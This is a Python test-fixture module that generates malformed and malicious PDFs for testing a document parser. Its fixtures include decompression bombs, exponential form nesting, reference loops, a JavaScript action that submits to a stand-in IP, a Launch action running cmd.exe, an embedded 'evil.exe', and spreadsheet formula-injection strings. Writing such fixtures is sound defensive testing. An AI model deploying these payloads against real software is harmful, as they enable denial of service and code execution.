"""Hostile PDFs, by the name of what is wrong with them."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.hostile.raw import A4, FONT, Raw, document, lines

_MINUTES = (
    "Protokoll från styrelsemöte",
    "Plats: Rådhuset, Vidkärr",
    "§ 1 Mötet öppnas",
    "Ordföranden hälsar alla välkomna.",
    "§ 2 Dagordning",
)
_INVOICE = ("FAKTURA", "Fakturanummer 4711", "Kontorsstolar 4 st", "Att betala 8 000 kr", "Bankgiro 123-4567")
_FORMULAS = (
    "Samordningsförbundet Vidkärr",
    "Årsredovisning 2022",
    "Resultaträkning (kr)",
    "                          2022      2021",
    '=HYPERLINK("http://192.0.2.1") 4 000 000 3 900 000',
    "@SUM(A1) 1 000 2 000",
    "+cmd 3 000 4 000",
)


def _encrypted(user: str) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption(user, ownerPassword="owner", canPrint=0))
    canvas.setFont("Courier", 10)
    for number, text in enumerate(("Samordningsförbundet Vidkärr", "Årsredovisning 2022", "Årets resultat 500 000 kr")):
        canvas.drawString(60, 780 - 20 * number, text)
    canvas.save()
    return out.getvalue()


def _many_pages(count: int) -> bytes:
    raw = Raw()
    raw.add(b"<< /Type /Catalog /Pages 2 0 R >>")
    raw.add(b"")
    raw.add(FONT)
    body = raw.stream(lines())
    kids = [
        raw.add(b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents %d 0 R /Resources << /Font << /F1 3 0 R >> >> >>" % (A4, body))
        for _ in range(count)
    ]
    raw.objects[1] = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (b" ".join(b"%d 0 R" % kid for kid in kids), count)
    return raw.bytes_(1)


def _flate_in_flate() -> bytes:
    """A page whose content unpacks to a gigabyte, packed twice."""
    packer = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    inner = b"".join(packer.compress(chunk) for _ in range(1024)) + packer.flush()
    raw = Raw()
    raw.add(b"<< /Type /Catalog /Pages 2 0 R >>")
    raw.add(b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>")
    raw.add(FONT)
    raw.add(b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> >>" % A4)
    outer = zlib.compress(inner, 9)
    raw.add(b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%b\nendstream" % (len(outer), outer))
    return raw.bytes_(1)


def _huge_picture(edge: int) -> bytes:
    """A page that is one picture of edge x edge pixels, packed to little."""
    packer = zlib.compressobj(9)
    row = b"\xff" * edge
    data = b"".join(packer.compress(row) for _ in range(edge)) + packer.flush()
    image = (
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"
        b" /Length %d >>\nstream\n%b\nendstream" % (edge, edge, len(data), data)
    )
    return document(b"q 595 0 0 842 0 0 cm /I Do Q", resources=b"/XObject << /I 4 0 R >>", more=[image])


def _nested_arrays() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    return document(catalogue=b"/Deep " + deep)


_FORM = b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] %b /Length %d >>\nstream\n%b\nendstream"


def _nested_forms() -> bytes:
    """Each form draws the next ten times: 10^12 drawings."""
    often = b"/X Do " * 10
    more = [_FORM % (b"/Resources << /XObject << /X %d 0 R >> >>" % (5 + number), len(often), often) for number in range(12)]
    last = b"1 0 0 1 1 1 cm 0 0 9 9 re f"
    more.append(_FORM % (b"", len(last), last))
    return document(lines() + b" /X Do", resources=b"/XObject << /X 4 0 R >>", more=more)


def _form_in_itself() -> bytes:
    form = _FORM % (b"/Resources << /XObject << /X 4 0 R >> >>", 5, b"/X Do")
    return document(lines() + b" /X Do", resources=b"/XObject << /X 4 0 R >>", more=[form])


def _page_tree_loop() -> bytes:
    raw = Raw()
    raw.add(b"<< /Type /Catalog /Pages 2 0 R >>")
    raw.add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    raw.add(b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 /Parent 2 0 R >>")
    return raw.bytes_(1)


def _outline_loop() -> bytes:
    more = [b"<< /First 5 0 R /Last 5 0 R /Count 1 >>", b"<< /Title (a) /Parent 4 0 R /Next 5 0 R /First 5 0 R >>"]
    return document(catalogue=b"/Outlines 4 0 R /PageMode /UseOutlines", more=more)


def _without_unicode() -> bytes:
    """A font whose codes mean nothing to anybody."""
    names = b" ".join(b"/g%d" % number for number in range(200))
    font = (
        b"<< /Type /Font /Subtype /Type1 /BaseFont /ABCDEF+Odd /FirstChar 32 /LastChar 231 /Widths [%b]"
        b" /Encoding << /Type /Encoding /Differences [32 %b] >> >>" % (b"600 " * 200, names)
    )
    return document(font=font)


def _widths(width: bytes) -> bytes:
    return b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier /FirstChar 0 /LastChar 255 /Widths [%b] /Encoding /WinAnsiEncoding >>" % (
        (width + b" ") * 256
    )


def _active() -> bytes:
    more = [
        b"<< /S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('http://192.0.2.1/'\\);) >>",
        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /Type /Filespec /F (../../evil.exe) /EF << /F 7 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
    ]
    names = b"/OpenAction 4 0 R /AA << /WC 5 0 R >> /Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>"
    return document(catalogue=names, more=more)


def _many_characters() -> bytes:
    """Two million characters on one page."""
    return document(b"BT /F1 1 Tf 1 0 0 1 10 800 Tm " + b"0 -0.001 Td (1 234 567 890 123 456 789) Tj " * 80_000 + b" ET")


def _many_paths() -> bytes:
    return document(lines() + b" 10 10 m 500 500 l S" * 400_000)


PDFS: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "one_byte": lambda: b"%",
    "head_only": lambda: b"%PDF-1.7\n",
    "html": lambda: b"<!DOCTYPE html><html><body>Sidan finns inte</body></html>",
    "truncated": lambda: document(*[lines()] * 3)[:1500],
    "locked": lambda: _encrypted("secret"),
    "locked_without_password": lambda: _encrypted(""),
    "ten_thousand_pages": lambda: _many_pages(10_000),
    "flate_in_flate": _flate_in_flate,
    "huge_picture": lambda: _huge_picture(30_000),
    "nested_arrays": _nested_arrays,
    "nested_forms": _nested_forms,
    "form_in_itself": _form_in_itself,
    "no_text": lambda: document(b""),
    "no_page": lambda: Raw().bytes_(1),
    "broken_xref": lambda: document(offset=777),
    "no_unicode": _without_unicode,
    "docx": lambda: b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + b"\0" * 400,
    "png": lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 400,
    "exe": lambda: b"MZ\x90\x00\x03" + b"\0" * 400,
    "active": _active,
    "page_of_nothing": lambda: document(box=b"[0 0 0 0]"),
    "page_inside_out": lambda: document(box=b"[595 842 0 0]"),
    "page_of_a_billion": lambda: document(box=b"[0 0 1000000000 1000000000]"),
    "page_below_zero": lambda: document(box=b"[-1e9 -1e9 -1 -1]"),
    "page_not_a_number": lambda: document(box=b"[0 0 nan inf]"),
    "page_of_words": lambda: document(box=b"[(a) (b) /c null]"),
    "turned_by_45": lambda: document(page=b"/Rotate 45"),
    "turned_by_a_lot": lambda: document(page=b"/Rotate -99999990"),
    "turned": lambda: document(page=b"/Rotate 270"),
    "user_unit": lambda: document(page=b"/UserUnit 1e30"),
    "minutes": lambda: document(lines(_MINUTES)),
    "invoice": lambda: document(lines(_INVOICE)),
    "no_year": lambda: document(lines(("Samordningsförbundet Vidkärr", "Resultaträkning", "Medlemsbidrag 4 000 000", "Resultat 500 000"))),
    "page_tree_loop": _page_tree_loop,
    "outline_loop": _outline_loop,
    "huge_letters": lambda: document(lines(size=1_000_000)),
    "letters_of_no_size": lambda: document(lines(size=0)),
    "negative_widths": lambda: document(font=_widths(b"-600")),
    "endless_widths": lambda: document(font=_widths(b"1e38")),
    "invisible": lambda: document(lines(before=b"3 Tr")),
    "many_characters": _many_characters,
    "many_paths": _many_paths,
    "formula_labels": lambda: document(lines(_FORMULAS)),
    "bad_stream": lambda: document(lines()).replace(b"endstream", b"endst"),
    "endless_length": lambda: document(lines()).replace(b"/Length ", b"/Length 99999999999"),
    "noise": lambda: b"%PDF-1.4\n" + bytes((number * 7919 + number // 251) % 256 for number in range(100_000)),
}
"""File stem by what is wrong, and the bytes."""
